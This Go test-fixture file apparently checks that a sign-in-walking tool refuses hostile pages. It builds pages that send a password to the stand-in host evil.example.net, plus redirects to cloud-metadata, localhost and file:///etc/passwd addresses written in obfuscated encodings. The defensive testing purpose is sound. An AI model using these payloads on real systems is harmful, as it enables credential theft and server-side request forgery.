package hostile

import (
	"fmt"
	"html"
	"net/http"
	"slices"
)

const evil = "evil.example.net"

// elsewhere are stories in which the walk is led to where it must not go, or to somebody who wants the password.
func elsewhere() []Story {
	return slices.Concat(harvests(), ways("https://169.254.169.254/latest/meta-data/"), ways("http://"+evil+"/"), targets())
}

// harvests lead to a password form of somebody else.
func harvests() []Story {
	form := func(w http.ResponseWriter, _ *http.Request) { loginForm(w, "/in") }
	away := func(name string, there http.HandlerFunc) Story {
		return Story{Name: "password form elsewhere, " + name, Code: 3, Says: evil, Hosts: []string{evil}, Serve: atHost(Host, there, form)}
	}
	return []Story{
		away("redirect", redirect(302, "https://"+evil+"/")),
		away("refresh", shows(`<meta http-equiv="refresh" content="0; url=https://`+evil+`/">`)),
		away("form", signedIn(shows(`<form id="f" method="post" action="https://`+evil+`/"><input type="hidden" name="a" value="b"></form><script>f.submit()</script>`))),
		{Name: "password sent on by 307", Code: 3, Says: evil, Serve: signedIn(redirect(307, "https://"+evil+"/"))},
		{Name: "password in a redirect", Code: 3, Says: evil, Serve: signedIn(redirect(302, "https://"+evil+"/?p="+Password))},
		{Name: "form posts elsewhere", Code: 3, Says: evil, Serve: func(w http.ResponseWriter, _ *http.Request) { loginForm(w, "https://"+evil+"/") }},
		{Name: "base elsewhere", Code: 3, Says: evil, Serve: shows(`<base href="https://` + evil + `/"><form method="post" action="in"><input name="user"><input type="password" name="password"></form>`)},
		{Name: "button posts elsewhere", Code: 3, Says: evil, Serve: shows(`<form method="post" action="/in"><input name="user"><input type="password" name="password">` +
			`<button formaction="https://` + evil + `/">Sign in</button></form>`)},
	}
}

// ways are the ways to lead to one address, before the sign-in and behind it.
func ways(target string) []Story {
	escaped := html.EscapeString(target)
	var stories []Story
	for name, there := range map[string]http.HandlerFunc{
		"redirect":        redirect(302, target),
		"refresh":         shows(`<meta http-equiv="refresh" content="0; url=` + escaped + `">`),
		"refresh header":  func(w http.ResponseWriter, _ *http.Request) { w.Header().Set("Refresh", "0; url="+target); page(w, "") },
		"script":          shows(`<script>window.location = "` + target + `"</script>`),
		"form":            shows(`<form id="f" method="post" action="` + escaped + `"><input type="hidden" name="a" value="b"></form><script>f.submit()</script>`),
		"form by GET":     shows(`<form id="f" action="` + escaped + `"><input type="hidden" name="a" value="b"></form><script>f.submit()</script>`),
		"button":          shows(`<form method="post" action="/"><input name="a" type="hidden"><button formaction="` + escaped + `">Continue</button></form>`),
		"base":            shows(`<base href="` + escaped + `"><form id="f" method="post" action="x"><input type="hidden" name="a" value="b"></form><script>f.submit()</script>`),
		"link":            shows(`<a href="` + escaped + `">Continue</a>`),
		"frame":           shows(`<iframe src="` + escaped + `"></iframe>`),
		"SAML form":       shows(`<form method="post" action="` + escaped + `"><input type="hidden" name="SAMLRequest" value="PHNhbWw+"></form>`),
		"307 of the form": redirect(307, target),
	} {
		stories = append(stories, Story{Name: fmt.Sprintf("to %s by %s", target, name), Code: 5, Serve: there})
	}
	return stories
}

// targets are addresses that no page may lead to.
func targets() []Story {
	var stories []Story
	for _, target := range []string{
		"file:///etc/passwd", "javascript:alert(1)", "data:text/html,<form>", "ftp://" + evil + "/", "ldap://" + evil + "/", "//", "https:///", "https://%31%36%39/",
		"https://[fd00:ec2::254]/", "https://[fd00:0ec2:0::0254]/", "https://100.100.100.200/", "https://metadata.google.internal./", "https://METADATA/",
		"https://2852039166/", "https://0xa9fea9fe/", "https://0251.0376.0251.0376/", "https://169.254.43518/", "https://0xa9.254.169.254/",
		"https://[::ffff:169.254.169.254]/", "https://[::ffff:a9fe:a9fe]/", "https://[64:ff9b::a9fe:a9fe]/", "https://[fe80::1]/", "https://0.0.0.0/", "https://0/",
		"https://127.0.0.1:1/", "https://localhost:1/", "https://idp.localhost:1/", "https://[::1]:1/", "https://127.1:1/", "https://2130706433:1/", "https://[::ffff:7f00:1]:1/",
	} {
		stories = append(stories, Story{Name: "redirect to " + target, Code: 5, Serve: redirect(302, target)})
	}
	return stories
}
